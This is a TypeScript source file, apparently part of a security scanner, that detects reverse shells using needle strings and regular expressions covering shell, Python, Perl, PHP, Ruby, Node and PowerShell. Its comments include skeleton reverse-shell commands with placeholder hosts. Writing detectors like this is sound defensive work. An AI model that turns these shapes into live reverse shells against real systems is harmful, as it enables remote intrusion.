import { findConnectionUse } from './connection-use.ts';
import { findPatterns, findTogether, inOrder, type ShellMatch } from './match.ts';
import { unfold } from './statements.ts';
import { SHELL } from './words.ts';

/*
 * A reverse shell joins a shell's input and output to a connection that goes out. Each way of writing it has one
 * shape that honest code does not: not "opens a socket" (`wait-for-it` writes to /dev/tcp, health checks read from
 * it), but "gives the socket to a shell".
 */

/** Literals of which one occurs in every text with a match. */
export const REVERSE_SHELL_NEEDLES = [
  '/dev/tcp/',
  '/dev/udp/',
  'zsh/net/tcp',
  'mkfifo',
  'mknod',
  'netcat',
  'ncat ',
  'nc -e',
  'nc -c',
  'nc -n',
  'nc -v',
  ' nc -',
  '| nc ',
  'bin/nc',
  ' -e /bin',
  ' -c /bin',
  ' -e sh',
  ' -e bash',
  '--exec',
  '--sh-exec',
  'nc.traditional',
  'nc.openbsd',
  'telnet',
  's_client',
  'socat',
  'dup2(',
  'pty.spawn',
  '.fileno()',
  '.recv(',
  'stdin=',
  'fdopen',
  'io::socket',
  'stdin,',
  'stdin ,',
  'fsockopen',
  'tcpsocket',
  'child_process',
  '/inet/tcp',
  '/inet4/tcp',
  '/inet6/tcp',
  'sockets.tcpclient',
  'sh -i <&',
  'bash -i',
  'busybox nc',
] as const;

const NETCAT =
  '(?<![\\w.-])(?:/(?:usr/)?bin/)?(?:busybox\\s{1,4})?(?:nc|ncat|netcat|nc\\.traditional|nc\\.openbsd)(?=\\s)';
const CARRIER = `(?:${NETCAT}|\\btelnet\\s|\\bopenssl\\s{1,4}s_client\\b|\\bsocat\\s)`;
const REDIRECT = '(?:\\d{0,3}>&|&>|\\d{0,3}<>|\\d{0,3}>|\\d{0,3}<)';

const SHELL_PATTERNS = [
  // bash -i >& /dev/tcp/h/p 0>&1
  new RegExp(
    `${SHELL}(?:\\s{1,4}-{1,2}[a-z]{1,12}){0,3}\\s{0,4}${REDIRECT}\\s{0,4}/dev/(?:tcp|udp)/[^\\n]{0,80}`,
    'g',
  ),
  // cat < /dev/tcp/h/p | sh
  new RegExp(`/dev/(?:tcp|udp)/[^\\s|;]{1,80}\\s{0,4}\\|\\s{0,4}${SHELL}(?!\\s{1,4}-c)`, 'g'),
  // zmodload zsh/net/tcp; ztcp h p; zsh <&$REPLY
  /\bztcp\s[^\n]{1,120}[\s\S]{0,80}?\bz?sh\b[^\n]{0,20}[<>]&\s{0,2}\$\{?REPLY/g,
  // nc h p -e /bin/sh
  new RegExp(`${NETCAT}[^\\n|;]{0,120}\\s(?:-[a-z]{0,6}[ec]|--exec|--sh-exec)[\\s=]{1,4}["']?${SHELL}`, 'g'),
  // sh | nc h p, nc h p | sh
  new RegExp(
    `${SHELL}(?:\\s{1,4}-i)?\\s{0,4}(?:<\\s{0,4}\\S{1,60}\\s{0,4})?(?:\\d>&\\d\\s{0,4})?(?:\\d?>\\s{0,4}/dev/null\\s{0,4})?\\|&?\\s{0,4}${CARRIER}[^\\n]{0,80}`,
    'g',
  ),
  new RegExp(`${CARRIER}[^\\n|;]{1,160}\\|\\s{0,4}${SHELL}(?!\\s{1,4}-c)`, 'g'),
  // socat tcp:h:p exec:sh
  /\bsocat\b[^\n]{0,200}\b(?:exec|system):["'\\]{0,2}(?:\/[\w/]{1,20}\/)?(?:ba|da|z|k|a)?sh(?:\s{1,4}-\w{1,4}){0,2}(?=["'\\,\s]|$)/gi,
  // the tail that every language shares: sh -i <&3 >&3 2>&3
  /(?:ba|da|z|k|a)?sh\s{1,4}-i\s{0,4}<&\s{0,2}(?:\d{1,3}|%d|\$\{?\w{1,20}\}?|#\{?\w{1,20}\}?)\s{0,4}\d?>&/g,
];

const NAMED_SHELL = /["'`](?:\/(?:usr\/)?bin\/)?(?:ba|da|z|k|a)?sh["'`\s]/;
const SPAN = 700;

interface CodeShape {
  readonly signs: readonly RegExp[];
}

/** Ways of other languages: signs that together give a connection to a shell. */
const CODE_SHAPES: readonly CodeShape[] = [
  // Python and anything with the C names: connect, dup2 over 0 to 2, a shell
  { signs: [/\bdup2\s{0,4}\(/, /\bconnect(?:_ex)?\s{0,4}\(/, NAMED_SHELL] },
  {
    signs: [
      /\bpty\.spawn\s{0,4}\(\s{0,4}(?:\[\s{0,4})?["'](?:\/(?:usr\/)?bin\/)?(?:ba|da|z|k|a)?sh["']/,
      /\.connect(?:_ex)?\s{0,4}\(/,
      /\.fileno\(\)/,
    ],
  },
  {
    signs: [
      /\bPopen\s{0,4}\([^\n]{0,120}\bstdin\s{0,4}=\s{0,4}\w{1,20}(?:\.fileno\(\))?\s{0,4},/,
      /\.connect(?:_ex)?\s{0,4}\(/,
      NAMED_SHELL,
    ],
  },
  // Perl
  {
    signs: [
      /\bopen\s{0,4}\(?\s{0,4}STD(?:IN|OUT)\s{0,4},\s{0,4}["'][<>+]{1,2}&/,
      /\bconnect\s{0,4}\(|\bIO::Socket/,
      /\b(?:exec|system)\b[^\n]{0,20}\bsh\b/,
    ],
  },
  { signs: [/\bSTDIN->fdopen\s{0,4}\(/, /\bIO::Socket/, /\bsystem\b|\bexec\b/] },
  // PHP
  {
    signs: [
      /\bfsockopen\s{0,4}\(/,
      /\b(?:exec|shell_exec|system|passthru|popen|proc_open)\s{0,4}\(\s{0,4}["'][^"'\n]{0,30}\bsh\b/,
    ],
  },
  // Ruby
  {
    signs: [
      /\bTCPSocket\.(?:new|open)\b/,
      /\bIO\.popen\s{0,4}\(?\s{0,4}\w{1,20}\s{0,4},|\b(?:exec|spawn|system)\b[^\n]{0,40}\bsh\b[^\n]{0,30}(?:<&|:in\s{0,2}=>)/,
    ],
  },
  // Node
  {
    signs: [
      /\bnet\b["']?\)?\.(?:connect|createConnection|Socket)\b|\.connect\(\s{0,4}\d{1,5}\s{0,4},/,
      /\b(?:spawn|exec)\s{0,4}\(\s{0,4}["'`](?:\/(?:usr\/)?bin\/)?(?:ba|da|z|k|a)?sh["'`]/,
      /\.pipe\(\s{0,4}\w{1,30}\.stdin\b|\.stdout\.pipe\(/,
    ],
  },
  // PowerShell
  { signs: [/\bNet\.Sockets\.TCPClient\b/i, /\bGetStream\(\)/i, /\b(?:iex|Invoke-Expression)\b/i] },
];

/** Shapes written in shell, wherever they stand: a script, a cron line, a string that another language runs. */
export function findReverseShellCommands(text: string): Generator<ShellMatch> {
  return findPatterns(unfold(text), SHELL_PATTERNS);
}

/** Shapes written in Python, Perl, PHP, Ruby, Node, awk and PowerShell: one match for each place, however many it has. */
export function* findReverseShellCode(text: string): Generator<ShellMatch> {
  const shapes = CODE_SHAPES.map(({ signs }) => findTogether(text, signs, SPAN));
  let last = -SPAN;
  for (const match of inOrder(...shapes, findConnectionUse(text))) {
    if (match.offset - last < SPAN) continue;
    last = match.offset;
    yield match;
  }
}

export function findReverseShell(text: string): Generator<ShellMatch> {
  return inOrder(findReverseShellCommands(text), findReverseShellCode(text));
}
